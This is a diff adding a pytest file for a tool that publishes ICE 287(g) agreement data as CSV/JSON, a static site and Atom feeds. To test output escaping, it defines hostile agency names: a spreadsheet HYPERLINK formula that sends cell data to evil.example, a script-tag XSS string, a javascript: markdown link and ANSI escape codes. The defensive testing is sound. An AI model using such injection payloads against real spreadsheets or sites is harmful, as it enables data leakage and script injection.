@@ -1,0 +1,316 @@
+"""``ice287g publish``: the data package, the site, feeds, escaping and determinism."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from tests.conftest import ROOT, Cli
+
+HEADER = ["STATE", "LAW ENFORCEMENT AGENCY", "TYPE", "COUNTY", "SUPPORT TYPE", "SIGNED", "MOA"]
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "<script>alert(1)</script> Police Department",
+    "[x](javascript:alert(1)) Sheriff's Office",
+    "_x001B_[31mRed_x001B_[0m County Sheriff's Office",  # ESC, as XLSX encodes it
+)
+
+
+def _xlsx(rows: list[list[object]]) -> bytes:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    for values in rows:
+        sheet.append(values)
+    for line in sheet.iter_rows():
+        for cell in line:
+            if isinstance(cell.value, str) and cell.value.startswith("="):
+                cell.data_type = "s"  # text that looks like a formula, as ICE could type it
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def _row(state: str, name: str, model: str, signed: str) -> list[object]:
+    return [state, name, "County", "", model, signed, "https://www.ice.gov/doclib/x.pdf"]
+
+
+@pytest.fixture(scope="module")
+def seed_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The seed archive rebuilt and published once for the module."""
+    tmp = tmp_path_factory.mktemp("seed")
+    seed = Cli(f"sqlite:///{tmp / 'seed.db'}", ROOT / "snapshots" / "archive")
+    seed("rebuild")
+    out = tmp / "site"
+    result = seed("publish", str(out))
+    assert "have a county FIPS" in result.stdout
+    return out
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Two hand-made participating lists whose agency names are attacks."""
+    tmp = tmp_path_factory.mktemp("hostile")
+    plain = [_row("TX", f"Plain {n} County Sheriff's Office", "JEM", "2025-01-02") for n in "abc"]
+    first = [HEADER, *plain, _row("FL", HOSTILE[0], "TFM", "2025-01-03")]
+    second = [HEADER, *plain, *[_row("FL", n, "TFM", "2025-03-01") for n in HOSTILE]]
+    for name, rows in (("a.xlsx", first), ("b.xlsx", second)):
+        (tmp / name).write_bytes(_xlsx(rows))
+    cli = Cli(f"sqlite:///{tmp / 'h.db'}", tmp / "archive")
+    cli("import", str(tmp / "a.xlsx"), "--observed-at", "2025-03-01T10:00:00Z")
+    cli("import", str(tmp / "b.xlsx"), "--observed-at", "2025-03-05T10:00:00Z")
+    out = tmp / "site"
+    cli("publish", str(out))
+    return out
+
+
+def _csv(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(path.open(encoding="utf-8")))
+
+
+def test_the_data_package_is_valid_by_frictionless(seed_site: Path) -> None:
+    from frictionless import validate
+
+    report = validate(seed_site / "data" / "datapackage.json")
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
+
+
+def test_every_table_is_written_as_csv_and_json_with_the_same_rows(seed_site: Path) -> None:
+    package = json.loads((seed_site / "data" / "datapackage.json").read_text())
+    names = {r["name"] for r in package["resources"]}
+    assert {"agreements", "events", "daily-counts", "pending-history", "moa-documents"} <= names
+    for resource in package["resources"]:
+        rows = _csv(seed_site / "data" / resource["path"])
+        twin = json.loads((seed_site / "data" / f"{resource['name']}.json").read_text())
+        assert len(rows) == len(twin)
+
+
+def test_every_agreement_row_carries_stable_ids_and_state_fips(seed_site: Path) -> None:
+    rows = _csv(seed_site / "data" / "agreements.csv")
+    assert rows and all(r["agency_id"] and r["agreement_id"] for r in rows)
+    assert all(len(r["state_fips"]) == 2 for r in rows)
+    located = [r for r in rows if r["county_fips"]]
+    assert located and all(r["county_fips"].startswith(r["state_fips"]) for r in located)
+
+
+def test_a_county_agency_without_a_county_cell_is_placed_by_its_name() -> None:
+    from ice287g.publish.geo import county_fips
+
+    assert county_fips("AL", "Etowah County", None) == "01055"
+    assert county_fips("LA", None, "Orleans Parish Sheriff's Office") == "22071"
+    assert county_fips("FL", None, "Juno Beach Police Department") is None
+    assert county_fips("ZZ", "Etowah County", None) is None
+
+
+def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(hostile_site: Path) -> None:
+    rows = _csv(hostile_site / "data" / "current-participating.csv")
+    agencies = {r["agency"] for r in rows}
+    assert "'" + HOSTILE[0] in agencies and HOSTILE[0] not in agencies
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    twin = json.loads((hostile_site / "data" / "current-participating.json").read_text())
+    assert HOSTILE[0] in {r["agency"] for r in twin}
+
+
+def test_escaping_helpers_neutralise_each_output() -> None:
+    from ice287g.escape import for_csv_cell, for_markdown, for_terminal, for_xml, safe_url
+
+    assert for_csv_cell("=1+1") == "'=1+1" and for_csv_cell("Plain") == "Plain"
+    assert for_csv_cell("\tx") == "'\tx" and for_csv_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert for_markdown("[x](javascript:alert(1))") == r"\[x\]\(javascript:alert\(1\)\)"
+    assert for_markdown("<b>a_b</b>") == r"\<b\>a\_b\</b\>"
+    assert for_markdown("# Title\nnext") == r"\# Title next"
+    assert for_markdown("1. St. Lucie") == r"1\. St. Lucie"
+    assert "\x1b" not in for_terminal("\x1b[31mred") and for_terminal("a\nb") == "a\\nb"
+    assert for_xml("a\x00b\x1bc") == "abc"
+    assert safe_url("javascript:alert(1)") is None and safe_url("data:text/html,x") is None
+    assert safe_url("https://www.ice.gov/x.pdf") == "https://www.ice.gov/x.pdf"
+
+
+def test_a_second_publish_with_nothing_new_rewrites_nothing(
+    seed_site: Path, tmp_path: Path
+) -> None:
+    before = _files_with_mtimes(seed_site)
+    seed = Cli(f"sqlite:///{seed_site.parent / 'seed.db'}", ROOT / "snapshots" / "archive")
+    result = seed("publish", str(seed_site))
+    assert " 0 files written" in result.stdout and " 0 removed" in result.stdout
+    assert _files_with_mtimes(seed_site) == before
+
+
+def _files_with_mtimes(root: Path) -> dict[Path, tuple[int, bytes]]:
+    return {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in root.rglob("*") if p.is_file()}
+
+
+def test_a_rebuilt_database_publishes_byte_identical_files(seed_site: Path, tmp_path: Path) -> None:
+    again = Cli(f"sqlite:///{tmp_path / 'again.db'}", ROOT / "snapshots" / "archive")
+    again("rebuild")
+    again("publish", str(tmp_path / "site"))
+    first = {p.relative_to(seed_site): p.read_bytes() for p in seed_site.rglob("*") if p.is_file()}
+    second = {
+        p.relative_to(tmp_path / "site"): p.read_bytes()
+        for p in (tmp_path / "site").rglob("*")
+        if p.is_file()
+    }
+    assert first.keys() == second.keys()
+    assert [k for k in first if first[k] != second[k]] == []
+
+
+ATOM = "{http://www.w3.org/2005/Atom}"
+
+
+def test_every_feed_is_atom_with_the_required_elements(seed_site: Path) -> None:
+    import xml.etree.ElementTree as ET
+
+    feeds = sorted((seed_site / "feeds").glob("*.xml"))
+    names = {f.name for f in feeds}
+    assert {"all.xml", "model-JEM.xml", "model-TFM.xml", "model-WSO.xml", "state-FL.xml"} <= names
+    for path in feeds:
+        root = ET.parse(path).getroot()
+        assert root.tag == f"{ATOM}feed"
+        for tag in ("id", "title", "updated"):
+            assert (root.findtext(f"{ATOM}{tag}") or "").strip(), (path.name, tag)
+        assert root.find(f"{ATOM}author/{ATOM}name") is not None
+        entries = root.findall(f"{ATOM}entry")
+        assert entries, path.name
+        for entry in entries:
+            for tag in ("id", "title", "updated"):
+                assert (entry.findtext(f"{ATOM}{tag}") or "").strip(), (path.name, tag)
+            link = entry.find(f"{ATOM}link")
+            assert link is not None
+            target = (path.parent / link.get("href", "").split("#")[0]).resolve()
+            assert target.is_file(), link.get("href")
+
+
+def test_the_feed_of_all_events_holds_each_event_once_dated_by_its_capture(
+    seed_site: Path,
+) -> None:
+    import xml.etree.ElementTree as ET
+
+    events = json.loads((seed_site / "data" / "events.json").read_text())
+    root = ET.parse(seed_site / "feeds" / "all.xml").getroot()
+    ids = [e.findtext(f"{ATOM}id") for e in root.findall(f"{ATOM}entry")]
+    assert sorted(ids) == sorted(f"urn:ice287g:event:{e['id']}" for e in events)
+    assert root.findtext(f"{ATOM}updated") == max(e["window_end"] for e in events)
+
+
+def test_each_month_is_a_page_and_the_change_log_in_markdown(
+    seed_site: Path, tmp_path: Path
+) -> None:
+    months = sorted(p.stem for p in (seed_site / "changes").glob("*.md"))
+    assert months and all((seed_site / "changes" / f"{m}.html").is_file() for m in months)
+    seed = Cli(f"sqlite:///{seed_site.parent / 'seed.db'}", ROOT / "snapshots" / "archive")
+    month = months[-1]
+    cli_md = seed("changes", "--since", f"{month}-01", "--until", f"{month}-31", "--format", "md")
+    page = (seed_site / "changes" / f"{month}.md").read_text()
+    assert page.split("\n", 1)[1] == cli_md.stdout.split("\n", 1)[1]
+
+
+def test_every_agency_has_a_page_and_events_link_to_the_archived_files(seed_site: Path) -> None:
+    agencies = {r["agency_id"] for r in _csv(seed_site / "data" / "agreements.csv")}
+    pages = {p.stem for p in (seed_site / "agencies").glob("*.html")}
+    assert agencies <= pages
+    page = (seed_site / "agencies" / "fl-alachua-county-sheriff-office.html").read_text()
+    proofs = re.findall(r'href="\.\./(files/[0-9a-f]{64}\.xlsx)"', page)
+    assert proofs and all((seed_site / p).is_file() for p in proofs)
+
+
+def test_the_front_page_shows_the_lists_charts_map_and_latest_changes(seed_site: Path) -> None:
+    page = (seed_site / "index.html").read_text()
+    for chart in ("models", "flows", "map"):
+        assert f'src="charts/{chart}.svg"' in page
+        assert (seed_site / "charts" / f"{chart}.svg").read_text().startswith("<svg")
+    assert "The lists as they stand" in page and "Latest changes" in page
+    assert page.count("<details>") == 3  # the numbers behind each chart
+
+
+def test_hostile_names_are_escaped_in_html_markdown_and_feeds(hostile_site: Path) -> None:
+    import xml.etree.ElementTree as ET
+
+    texts = {
+        p: p.read_text(encoding="utf-8")
+        for p in hostile_site.rglob("*")
+        if p.suffix in (".html", ".md", ".xml", ".csv")
+    }
+    for path, text in texts.items():
+        assert "<script>alert" not in text or path.suffix == ".csv", path
+        assert "\x1b" not in text or path.suffix == ".csv", path  # CSV keeps the value
+        if path.suffix == ".html":
+            assert 'href="javascript' not in text.lower(), path
+        if path.suffix == ".xml":
+            ET.fromstring(text)
+    md = "".join(t for p, t in texts.items() if p.suffix == ".md")
+    assert r"\[x\]\(javascript:alert\(1\)\)" in md and "](javascript" not in md
+    html = "".join(t for p, t in texts.items() if p.suffix == ".html")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+
+
+def test_every_internal_link_and_asset_of_the_site_resolves(seed_site: Path) -> None:
+    """A crawler over the output folder: every href and src of every page that is not
+    an absolute URL names a file of the folder (and an #anchor an id of that page)."""
+    from html.parser import HTMLParser
+    from urllib.parse import unquote, urldefrag
+
+    class Links(HTMLParser):
+        def __init__(self) -> None:
+            super().__init__()
+            self.links: list[str] = []
+            self.ids: set[str] = set()
+
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            for name, value in attrs:
+                if name in ("href", "src") and value:
+                    self.links.append(value)
+                if name == "id" and value:
+                    self.ids.add(value)
+
+    pages: dict[Path, Links] = {}
+    for page in seed_site.rglob("*.html"):
+        parser = Links()
+        parser.feed(page.read_text(encoding="utf-8"))
+        pages[page.resolve()] = parser
+    broken, checked = [], 0
+    for page, parser in pages.items():
+        for link in parser.links:
+            if link.startswith(("http://", "https://", "mailto:")):
+                continue
+            path, anchor = urldefrag(link)
+            target = (page.parent / unquote(path)).resolve() if path else page
+            checked += 1
+            inside = target.is_file() and target.is_relative_to(seed_site.resolve())
+            missing_anchor = bool(anchor) and target in pages and anchor not in pages[target].ids
+            if not inside or missing_anchor:
+                broken.append((page.name, link))
+    assert checked > 1000 and broken == []
+
+
+def _data_with(observed: dict[str, str], newest: str) -> Any:
+    from ice287g.publish.model import ListState, PublishData
+
+    snapshots = {
+        f"{kind}-1": {"id": f"{kind}-1", "observed_at": at, "kind": kind, "sha256": kind}
+        for kind, at in observed.items()
+    }
+    snapshots["page"] = {"id": "page", "observed_at": newest, "kind": "page", "sha256": "p"}
+    lists = {
+        kind: ListState(kind, (), observed.get(kind), f"{kind}-1", kind)
+        for kind in ("participating", "pending")
+    }
+    return PublishData({}, (), (), (), lists, snapshots, (), {}, ())
+
+
+def test_a_list_not_captured_in_the_week_before_the_newest_observation_is_stale() -> None:
+    from ice287g.publish.site import _list_summary
+
+    data = _data_with(
+        {"participating": "2025-05-01T10:00:00Z", "pending": "2025-05-09T10:00:00Z"},
+        newest="2025-05-09T12:00:00Z",
+    )
+    assert _list_summary(data, "participating")["stale"] is True
+    assert _list_summary(data, "pending")["stale"] is False
+    assert _list_summary(data, "pending")["published"] == "2025-05-09T10:00:00Z"
